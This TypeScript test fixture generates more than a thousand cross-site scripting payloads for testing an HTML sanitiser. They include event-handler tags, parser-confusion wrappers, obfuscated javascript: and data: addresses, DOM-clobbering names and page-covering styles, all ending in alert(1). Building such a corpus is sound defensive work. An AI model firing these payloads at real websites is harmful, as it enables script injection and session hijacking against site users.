/**
 * Attacks on sanitisers, built from known families: handlers, parser confusion, and disguises of both. The list is
 * deterministic, so that a finding can be named. Each attack calls `alert` when it runs.
 */

const RUN = "alert(1)";

/** Elements that run a handler on their own or on interaction. */
const HANDLERS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><g onload=${RUN}></g></svg>`,
  `<body onload=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<a href=# onclick=${RUN}>x</a>`,
  `<div onmouseover=${RUN}>x</div>`,
  `<p onpointerover=${RUN}>x</p>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data=x onerror=${RUN}></object>`,
  `<embed src=x onerror=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<style onload=${RUN}></style>`,
  `<script>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
  `<div contenteditable onblur=${RUN} tabindex=1>x</div>`,
  `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>x</button>`,
  `<button onfocus=${RUN} autofocus>x</button>`,
  `<p style=animation:x onanimationstart=${RUN}>x</p>`,
  `<table background=x onmouseenter=${RUN}><td>x</table>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<form onsubmit=${RUN}><input type=submit></form>`,
];

/** Parsing contexts with special rules; `%` marks the attack. */
const CONTEXTS: readonly string[] = [
  "<math><mtext><table><mglyph><style><!--</style>%",
  "<math><mtext><table><mglyph><style><math>%",
  '<svg></p><style><a title="</style>%">',
  "<form><math><mtext></form><form><mglyph><style></math>%",
  "<math><mtext><mglyph><style>%",
  "<svg><desc><![CDATA[</desc>%]]></desc></svg>",
  "<svg><title><style>%</style></title></svg>",
  "<svg><foreignObject><p>%</p></foreignObject></svg>",
  '<math><annotation-xml encoding="text/html"><style>%</style></annotation-xml></math>',
  '<noscript><p title="</noscript>%"></noscript>',
  '<textarea><p title="</textarea>%"></textarea>',
  '<title><p title="</title>%"></title>',
  '<xmp><p title="</xmp>%"></xmp>',
  '<noembed><p title="</noembed>%"></noembed>',
  '<iframe><p title="</iframe>%"></iframe>',
  '<style><p title="</style>%"></style>',
  "<template>%</template>",
  "<template><template>%</template></template>",
  "<div><template shadowrootmode=open>%</template></div>",
  "<select><option>%</option></select>",
  "<select><template>%</template></select>",
  "<table><tr><td>%</td></tr></table>",
  "<table>%<tr></table>",
  "<!-->%-->",
  "<!--->%-->",
  "<!--!>%-->",
  "<!-- --!>%-->",
  "<![CDATA[%]]>",
  "<?xml >%?>",
  "</p%></p>%",
  "<a title='\"'>%</a>",
  '<p title="`>%">x</p>',
  '<p id="</p>%">x</p>',
  "<ruby><rt><math><mi>%</mi></math></rt></ruby>",
  "<frameset>%</frameset>",
  "<plaintext>%",
  "<svg><p><style><!--%--></style></p></svg>",
  "<b><i></b>%</i>",
  "<dl><dt><svg><desc>%</desc></svg></dt></dl>",
];

/** Script addresses, plain and disguised. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6a;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*x*/${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:${RUN}`,
  `\u00a0javascript:${RUN}`,
];

/** Elements that follow or load an address; `%` marks the address. */
const LINKS: readonly string[] = [
  '<a href="%">x</a>',
  '<a xlink:href="%">x</a>',
  '<svg><a href="%"><text>x</text></a></svg>',
  '<svg><a xlink:href="%"><text>x</text></a></svg>',
  '<svg><use href="%"/></svg>',
  '<svg><a><set attributeName=href to="%"/><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="%"/><text>x</text></a></svg>',
  '<img src="%">',
  '<img srcset="% 2x">',
  '<iframe src="%"></iframe>',
  '<iframe srcdoc="%"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<form action="%"><input type=submit></form>',
  '<form><button formaction="%">x</button></form>',
  '<input type=image formaction="%" src=x>',
  '<area href="%">',
  '<base href="%"><a href=x>x</a>',
  '<meta http-equiv=refresh content="0;url=%">',
  '<link rel=import href="%">',
  '<video poster="%"></video>',
  '<body background="%">',
  '<math><mi href="%">x</mi></math>',
  '<math><mi xlink:href="%">x</mi></math>',
  "<p style=\"background:url('%')\">x</p>",
  '<blockquote cite="%">x</blockquote>',
  '<a ping="%" href=#>x</a>',
];

/** Styles and names that could cover the portal, imitate it, or break its scripts. */
const LOOKS: readonly string[] = [
  "<style>*{display:none}</style>",
  "<style>@import 'data:text/css,*{display:none}'</style>",
  '<p style="position:fixed;inset:0;z-index:9">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<p style="behavior:url(x)">x</p>',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<p class="dialog" id=tresc>x</p>',
  "<img name=getElementById>",
  "<form name=body><input name=childNodes></form>",
  "<form id=document><input name=createElement></form>",
  "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>",
  "<img id=addEventListener>",
  "<form><input name=attributes><input name=nodeName></form>",
  "<p slot=x part=y>x</p>",
  "<input name=haslo type=password>",
  "<button type=submit form=x>x</button>",
  "<dialog open>x</dialog>",
  "<object name=firstChild></object>",
  "<embed name=parentNode>",
  "<p is=ebok-x>x</p>",
  "<iframe name=location></iframe>",
];

/** Functions that write the same attack in another way. */
const DISGUISES: readonly ((attack: string) => string)[] = [
  (attack) => attack.replace(/<([a-z]+)/gi, (_all, name: string) => `<${name.toUpperCase()}`),
  (attack) => attack.replaceAll(/<([a-z]+) /gi, "<$1/"),
  (attack) => attack.replaceAll(/ (on\w+)=/gi, "\n$1\f=\t"),
  (attack) => attack.replaceAll("alert(1)", "&#97;lert(1)"),
  (attack) => attack.replaceAll("alert(1)", "top[`al`+`ert`](1)").replaceAll("`", "&#96;"),
  (attack) => attack.replace(/>$/, ""),
  (attack) => attack.replaceAll(/<([a-z]+)/gi, "<$1 x=\"'\" y='\"'"),
  (attack) => `\u0000${attack.replaceAll(/<([a-z])/gi, "<$1")}\u0000`,
  (attack) => `</div></p></template>${attack}`,
];

const into = (frame: string, attack: string): string => frame.replace("%", () => attack);

function families(): readonly string[] {
  return [
    ...HANDLERS,
    ...HANDLERS.flatMap((attack) => DISGUISES.map((disguise) => disguise(attack))),
    ...CONTEXTS.flatMap((frame) => HANDLERS.slice(0, 12).map((attack) => into(frame, attack))),
    ...LINKS.flatMap((link) => ADDRESSES.map((address) => into(link, address))),
    ...LOOKS,
    ...CONTEXTS.flatMap((outer, index) =>
      into(outer, into(CONTEXTS[(index + 7) % CONTEXTS.length] ?? "%", `<img src=x onerror=${RUN}>`)),
    ),
  ];
}

/** More than a thousand distinct attacks. */
export const HTML_ATTACKS: readonly string[] = [...new Set(families())];

/** Returns `count` items, spread evenly over the list. */
export function spread(list: readonly string[], count: number): readonly string[] {
  return Array.from(
    { length: Math.min(count, list.length) },
    (_, index) => list[Math.floor((index * list.length) / Math.min(count, list.length))] ?? "",
  );
}
